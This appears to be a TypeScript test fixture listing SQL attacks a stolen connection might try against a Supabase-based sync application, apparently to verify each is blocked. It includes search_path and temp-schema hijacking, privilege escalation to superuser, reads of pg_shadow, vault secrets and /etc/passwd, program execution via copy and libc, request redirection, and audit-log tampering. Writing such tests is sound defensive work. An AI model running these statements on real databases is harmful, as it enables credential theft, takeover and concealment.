/** What somebody with a stolen connection tries. Every statement is tried, whatever became of the one before. */
export interface Attack {
  readonly title: string;
  readonly statements: readonly string[];
}

export const MARK = 424_242;
const OWN = [
  "create function pg_temp.evil() returns boolean language plpgsql as $$ begin insert into public.witness default values; return true; end $$",
  "create function pg_temp.evil_t() returns trigger language plpgsql as $$ begin insert into public.witness default values; return new; end $$",
  "create function pg_temp.evil_op(uuid, uuid) returns boolean language plpgsql as $$ begin insert into public.witness default values; return true; end $$",
  "create function pg_temp.evil_jsonb(jsonb, text) returns jsonb language plpgsql as $$ begin insert into public.witness default values; return $1; end $$",
  "create function pg_temp.evil_cast(text) returns uuid language plpgsql as $$ begin insert into public.witness default values; return gen_random_uuid(); end $$",
];
/** Each decides as far as it may; the worker as if it were a person. */
export const DECIDE = [
  "update public.sync_conflicts set resolution_strategy = 'source_wins' where state = 'open' and source_record_id = 1",
  `update public.sync_conflicts set resolution_strategy = 'source_wins', decisions = decisions + 1, state = 'resolved', resolved_at = now(), resolved_by = 'Ann'
    where state = 'open' and source_record_id = 2`,
  "update public.sync_conflicts set decisions = decisions + 1 where source_record_id = 3",
  "select sync.reveal(id) from public.sync_conflicts limit 1",
];
const TYPES = ["uuid", "text", "jsonb", "int8", "int4", "int2", "bool", "name", "numeric", "varchar", "timestamptz", "regclass"];
const TABLES = [
  "decided",
  "decided_rows",
  "before",
  "sync_conflicts",
  "sync_entities",
  "sync_released_entities",
  "sync_row_states",
  "offices",
  "ledger",
  "pg_class",
  "office_log",
  "office_scratch",
];
const FUNCTIONS = [
  "format",
  "count",
  "to_jsonb",
  "jsonb_agg",
  "current_setting",
  "pg_has_role",
  "quote_ident",
  "string_agg",
  "now",
];

/** Decides while something of its own waits for the end of the transaction. */
const atTheEnd = (first: string) => DECIDE.flatMap((decision) => [`begin; ${first}; ${decision}; commit`, "rollback"]);

/** Everybody may do that on many a table of a project: default privileges give all rights to the roles of the Data API. */
const waitingOn = (name: string) => [
  `create constraint trigger ${name} after insert on public.notes deferrable initially deferred for each row execute function pg_temp.evil_t()`,
  ...atTheEnd("insert into public.notes values ('mine')"),
];

const ofNames: readonly Attack[] = [
  {
    title: "types of the names that our functions use, with a check that calls a function",
    statements: [
      ...OWN,
      ...TYPES.map((name) => `create domain pg_temp.${name} as pg_catalog.${name} check (pg_temp.evil())`),
      ...DECIDE,
    ],
  },
  {
    title: "tables, views and triggers of these names in its own temporary schema",
    statements: [
      ...OWN,
      ...TABLES.flatMap((name) => [
        `create temp table ${name} (id uuid primary key, row uuid, key bigint, why text, "left" jsonb, decisions integer default 99, target_table text default 'ledger')`,
        `create trigger t before insert or update or delete on pg_temp.${name} for each row execute function pg_temp.evil_t()`,
        `insert into pg_temp.${name} (id) values (gen_random_uuid())`,
        `grant all on pg_temp.${name} to public`,
      ]),
      "create temp view sync_audit as select pg_temp.evil()",
      ...DECIDE,
    ],
  },
  {
    title: "triggers that wait for the end of its transaction",
    statements: [
      ...OWN,
      "create temp table waiting (id integer)",
      `create constraint trigger t after insert on pg_temp.waiting deferrable initially deferred for each row execute function pg_temp.evil_t()`,
      ...atTheEnd("insert into pg_temp.waiting values (1)"),
      "drop table pg_temp.waiting",
      ...waitingOn("waits"),
    ],
  },
  // In a session of its own: the application's trigger leaves a temporary table behind, after which nothing more is
  // decided there.
  {
    title: "triggers that wait under the name of a constraint of the application",
    statements: [...OWN, ...waitingOn("office_checked")],
  },
  {
    title: "functions, operators and casts of its own, and a search path that leads there",
    statements: [
      ...OWN,
      ...FUNCTIONS.map(
        (name) =>
          `create function pg_temp.${name}(text) returns text language plpgsql as $$ begin insert into public.witness default values; return $1; end $$`,
      ),
      "create operator pg_temp.= (leftarg = uuid, rightarg = uuid, function = pg_temp.evil_op)",
      "create operator pg_temp.<> (leftarg = uuid, rightarg = uuid, function = pg_temp.evil_op)",
      "create operator pg_temp.-> (leftarg = jsonb, rightarg = text, function = pg_temp.evil_jsonb)",
      "create cast (text as uuid) with function pg_temp.evil_cast(text) as implicit",
      "create aggregate pg_temp.max(uuid) (sfunc = pg_temp.evil_op, stype = boolean)",
      "set search_path = pg_temp, public, sync, pg_catalog",
      "set standard_conforming_strings = off",
      "set backslash_quote = on",
      "set row_security = off",
      ...DECIDE,
    ],
  },
];

const IN_THE_CATALOG = [
  "create table public.mine (id integer)",
  "create table sync.mine (id integer)",
  "create schema mine",
  "create function public.mine() returns integer language sql as 'select 1'",
  "create function sync.mine() returns integer language sql as 'select 1'",
  "create or replace function sync.reveal(uuid) returns jsonb language sql security definer as $$ select '{}'::jsonb $$",
  "create type public.mine as enum ('a')",
  "create domain sync.mine as text",
  "create extension dblink",
  "create extension adminpack",
  "create event trigger mine on ddl_command_end execute function pg_temp.evil_t()",
  "create publication mine for all tables",
  "create foreign data wrapper mine",
  "create role mine",
  "create language plpython3u",
  "alter function sync.reveal(uuid) security invoker",
  "alter function sync.carry_out(public.sync_entities, uuid[], jsonb) owner to current_user",
  "alter function sync.apply_decisions() set search_path = pg_temp",
  "alter table public.sync_conflicts disable trigger all",
  "alter table public.sync_conflicts disable row level security",
  "alter table public.sync_entities owner to current_user",
  "alter table public.ledger add column mine integer",
  "alter type public.sync_job_status add value 'mine'",
  "drop trigger apply_decisions on public.sync_conflicts",
  "drop trigger check_decision on public.sync_conflicts",
  "create policy mine on public.sync_conflict_values for select using (true)",
  "create rule mine as on insert to public.sync_audit do instead nothing",
  "create index on public.sync_conflicts ((pg_temp.evil()))",
  "comment on table public.sync_conflicts is 'mine'",
  "grant all on public.ledger to public",
  "grant isthmus_decisions to current_user",
  "grant postgres to current_user",
  "alter role current_user superuser",
  "alter role isthmus_decisions login",
  "alter role postgres set search_path = pg_temp",
  "alter database postgres set search_path = pg_temp",
  "alter default privileges grant all on tables to public",
  "alter system set log_statement = 'all'",
  "security label on role postgres is 'mine'",
];
const TRIGGERS = [
  "sync_conflicts",
  "sync_entities",
  "sync_executions",
  "sync_brakes",
  "sync_identities",
  "sync_audit",
  "sync_row_states",
  "uuid_mappings_enhanced",
  "offices",
  "ledger",
].flatMap((table) => [
  `create trigger mine before insert or update on public.${table} for each row execute function pg_temp.evil_t()`,
  `create constraint trigger mine2 after insert or update on public.${table} deferrable for each row execute function pg_temp.evil_t()`,
]);
const ROLES = [
  "postgres",
  "supabase_admin",
  "isthmus_decisions",
  "isthmus_worker",
  "service_role",
  "authenticated",
  "anon",
  "authenticator",
  "none",
];
const AS_SOMEBODY_ELSE = ROLES.flatMap((role) => [
  `set role ${role}`,
  `set session authorization ${role}`,
  `select set_config('role', '${role}', false)`,
  "update public.ledger set name = 'owned'",
  "select name from public.ledger",
  "select sync.reveal(id) from public.sync_conflicts limit 1",
]);
const FILES = [
  "copy (select 1) to program 'true'",
  "copy public.witness (what) from program 'echo mine'",
  "copy public.witness (what) from '/etc/passwd'",
  "copy (select 1) to '/tmp/isthmus-attack'",
  "select pg_read_file('/etc/passwd')",
  "select pg_ls_dir('.')",
  "select pg_stat_file('/etc/passwd')",
  "select lo_import('/etc/passwd')",
  "select lo_export(oid, '/tmp/isthmus-attack') from pg_largeobject_metadata",
  "load 'auto_explain'",
  "create function pg_temp.c(text) returns integer language c as 'libc.so.6', 'system'",
];
const LARGE_OBJECTS = [
  "select convert_from(lo_get(oid), 'UTF8') from pg_largeobject_metadata",
  "select lo_put(oid, 0, 'owned') from pg_largeobject_metadata where pg_get_userbyid(lomowner) <> current_user",
  "select lo_unlink(oid) from pg_largeobject_metadata where pg_get_userbyid(lomowner) <> current_user",
  "select * from pg_largeobject",
  "set lo_compat_privileges = on",
];
const NET = [
  "select headers from net.http_request_queue",
  "select url, body from net.http_request_queue",
  "update net.http_request_queue set url = 'https://elsewhere.example'",
  "delete from net.http_request_queue",
  "truncate net.http_request_queue",
  "create trigger mine before insert on net.http_request_queue for each row execute function pg_temp.evil_t()",
  "update net._http_response set content = 'owned'",
];
const DIRECTLY = [
  "select sync.apply_decisions()",
  "select sync.call_tick()",
  "select sync.read_secret('isthmus_secret_key')",
  "select sync.release_entity('offices', 'ledger', array['name'], true)",
  "select sync.release_entity('mine', 'ledger', array['name', 'amount'], true)",
  "select sync.withdraw_entity('offices')",
  "select sync.grant_released('ledger')",
  "select sync.carry_out(e, array(select id from public.sync_conflicts), '{}') from public.sync_entities e",
  "select sync.decide_fields(e, array(select id from public.sync_conflicts), '{}') from public.sync_entities e",
  "select sync.decide_rows(e, array(select id from public.sync_conflicts), '{}') from public.sync_entities e",
  "select sync.delete_decided(e, array(select id from public.sync_conflicts)) from public.sync_entities e",
];
const PEOPLES = [
  "insert into public.sync_released_entities (entity_type, target_table, columns, deletes) values ('mine', 'ledger', '{name}', true)",
  "update public.sync_released_entities set target_table = 'ledger', columns = '{name}'",
  "delete from public.sync_released_entities",
  `update public.sync_jobs set configuration = '{"entities": []}', enabled = false, cron_expression = '* * * * *'`,
  "insert into public.sync_jobs (name, schedule_type) values ('mine', 'on_demand')",
  "insert into public.sync_rule_overrides (rule, severity, reason) values ('mine', 'warn', 'mine')",
  "insert into public.sync_audit (actor, action) values ('Ann', 'decided')",
  "update public.sync_audit set actor = 'Ann'",
  "delete from public.sync_audit",
  "truncate public.sync_audit, public.sync_conflicts cascade",
  `insert into public.sync_brakes (entity_id, kind, records, landed, confirmed_by, confirmed_at) select id, 'delete', 99999, 1, 'Ann', now() from public.sync_entities`,
  "insert into public.sync_identities (source_id, side, identity, accepted_by, accepted_at) select min(id), 'source', '1/1', 'Ann', now() from public.sync_sources",
  "update public.sync_identities set accepted_by = 'Ann'",
  `insert into public.sync_conflicts (state, entity_type, source_record_id, conflict_type, remedy, rule, source_table, target_table, entity_id, resolved_at, resolved_by, resolution_strategy)
   select 'resolved', entity_type, 77, 'concurrent_modification', '', 'both_changed', '', '', id, now(), 'Ann', 'target_wins' from public.sync_entities`,
  "update public.sync_conflicts set state = 'resolved', resolved_at = now(), resolved_by = 'Ann' where source_record_id = 4",
];
const READING = [
  "select name, amount from public.ledger",
  "select notes from public.offices",
  "select * from vault.decrypted_secrets",
  "select * from pg_authid",
  "select rolpassword from pg_shadow",
  "select * from pg_hba_file_rules",
  "select query from pg_stat_activity where usename <> current_user and query ~ 'secret'",
  "select * from cron.job_run_details",
  "explain (analyze, verbose) select * from public.ledger",
  "table public.ledger",
  "select most_common_vals from pg_stats where tablename = 'ledger'",
  "select * from pg_statistic",
];
const sequences = (names: readonly string[]): Attack => ({
  title: "sequences",
  statements: names.flatMap((name) => [
    `select setval('${name}', ${MARK})`,
    `alter sequence ${name} restart with ${MARK}`,
    `update ${name} set last_value = ${MARK}`,
  ]),
});

/** By everybody, whoever they are. `names`: of all sequences. */
export function attacksByAnybody(names: readonly string[]): Attack[] {
  return [
    ...ofNames,
    { title: "objects, rights and settings of the database", statements: [...OWN, ...IN_THE_CATALOG] },
    { title: "triggers on our tables and on the application's", statements: [...OWN, ...TRIGGERS] },
    { title: "other roles", statements: AS_SOMEBODY_ELSE },
    { title: "files and programs of the server", statements: FILES },
    { title: "large objects", statements: LARGE_OBJECTS },
    { title: "what pg_net keeps", statements: [...OWN, ...NET] },
    { title: "functions behind decisions, releases and the schedule", statements: DIRECTLY },
    { title: "what people decide, and what is written about that", statements: PEOPLES },
    { title: "what is nobody's business", statements: READING },
    sequences(names),
  ];
}
